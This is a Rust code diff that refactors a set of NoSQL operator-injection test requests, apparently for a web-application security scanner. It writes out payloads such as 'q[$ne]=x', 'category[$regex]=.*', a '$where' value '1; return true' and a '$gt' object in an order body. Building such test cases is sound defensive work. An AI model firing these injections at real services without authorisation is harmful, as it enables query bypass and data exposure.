@@ -342,6 +342,14 @@ pub fn structural(shop: bool) -> Vec<(String, Req)> {
     out
 }
 
+/// GET requests, each named by the field it attacks.
+fn gets(targets: &[(&str, &str)]) -> Vec<(String, Req)> {
+    targets
+        .iter()
+        .map(|(what, target)| (what.to_string(), Req::get(*target)))
+        .collect()
+}
+
 /// NoSQL operator injections: query keys with operators, objects where strings belong,
 /// `$where` code.
 pub fn nosql(shop: bool) -> Vec<(String, Req)> {
@@ -355,15 +363,15 @@ pub fn nosql(shop: bool) -> Vec<(String, Req)> {
         ] {
             out.push((what.to_string(), Req::send("PUT", "/api/users/anna/profile", "application/json", body.as_bytes().to_vec())));
         }
-        out.push(("query.q[$ne]".into(), Req::get("/api/search?q[$ne]=x")));
-        out.push((
-            "query.category[$regex]".into(),
-            Req::get("/api/products?category[$regex]=.*&page=1"),
-        ));
-        out.push((
-            "query.q $where".into(),
-            Req::get(format!("/api/search?q={}", form_encode("1; return true"))),
-        ));
+        let where_true = format!("/api/search?q={}", form_encode("1; return true"));
+        out.extend(gets(&[
+            ("query.q[$ne]", "/api/search?q[$ne]=x"),
+            (
+                "query.category[$regex]",
+                "/api/products?category[$regex]=.*&page=1",
+            ),
+            ("query.q $where", &where_true),
+        ]));
         out.push(("json.note {\"$gt\":\"\"}".into(), Req::send("POST", "/api/orders", "application/json", b"{\"items\":[{\"sku\":\"AB-1234\",\"qty\":1}],\"note\":{\"$gt\":\"\"},\"coupon\":\"\",\"address\":{\"name\":\"A B\",\"street\":\"1 Main St\",\"city\":\"Berlin\",\"postcode\":\"10115\",\"country\":\"DE\"},\"email\":\"a@example.com\"}".to_vec())));
     } else {
         for (what, body) in [
@@ -394,14 +402,11 @@ pub fn nosql(shop: bool) -> Vec<(String, Req)> {
                 ),
             ));
         }
-        out.push((
-            "query.author[$ne]".into(),
-            Req::get("/search?q=bike&author[$ne]=x"),
-        ));
-        out.push((
-            "query.q {\"$gt\": \"\"}".into(),
-            Req::get(format!("/search?q={}", form_encode("{\"$gt\": \"\"}"))),
-        ));
+        let gt_empty = format!("/search?q={}", form_encode("{\"$gt\": \"\"}"));
+        out.extend(gets(&[
+            ("query.author[$ne]", "/search?q=bike&author[$ne]=x"),
+            ("query.q {\"$gt\": \"\"}", &gt_empty),
+        ]));
     }
     out
 }
